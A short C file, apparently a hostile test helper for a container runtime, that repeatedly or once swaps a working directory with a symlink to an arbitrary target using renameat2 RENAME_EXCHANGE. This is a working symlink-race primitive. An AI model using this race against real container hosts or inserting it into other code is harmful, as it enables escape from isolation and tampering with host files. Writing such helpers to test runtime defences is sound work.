/* exchange DIR TARGET: exchanges the directory DIR/work with DIR/evil, a link to TARGET, without
   end. exchange_late DIR TARGET: exchanges them once, when the next process appears in the pod. */
#define _GNU_SOURCE
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int prepare(int argc, char **argv) {
  if (argc != 3 || chdir(argv[1]) != 0) return 0;
  mkdir("work", 0777);
  return symlink(argv[2], "evil") == 0;
}

static void flip(void) {
  syscall(SYS_renameat2, AT_FDCWD, "work", AT_FDCWD, "evil", RENAME_EXCHANGE);
}

int exchange(int argc, char **argv) {
  if (!prepare(argc, argv)) return 2;
  puts("up");
  for (;;) flip();
}

int exchange_late(int argc, char **argv) {
  if (!prepare(argc, argv)) return 2;
  int next = last_pid() + 1;
  puts("up");
  while (kill(next, 0) != 0 && errno == ESRCH) continue;
  flip();
  pause();
  return 0;
}
